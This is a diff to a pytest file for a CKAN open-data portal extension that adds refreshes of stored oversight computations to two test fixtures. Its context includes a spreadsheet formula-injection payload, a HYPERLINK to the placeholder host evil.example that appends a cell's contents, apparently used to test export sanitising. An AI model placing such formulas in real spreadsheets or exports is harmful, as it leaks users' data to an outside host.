@@ -12,6 +12,7 @@ import pytest
 from ckan.cli.cli import ckan
 
 from ckanext.lutsk.domain import tabular, workdays
+from ckanext.lutsk.oversight import stored as oversight_stored
 from tests.lutsk_factories import body_org, dataset, staff
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
@@ -38,6 +39,9 @@ def world(fresh_portal):
         date_published=_dt(400),
         data_updated=_dt(100),
     )
+    # The register, coverage and audit plan are served from stored computations: compute
+    # them once, as the background job does after a change.
+    oversight_stored.refresh()
     return {"users": users}
 
 
@@ -229,6 +233,7 @@ def stored(world):
     pkg.extras = {**pkg.extras, "purpose_of_collecting_information": "Мета\x0b"}
     model.Session.commit()
     rebuild(pkg.id)
+    oversight_stored.refresh()
     return pkg_dict
 
 
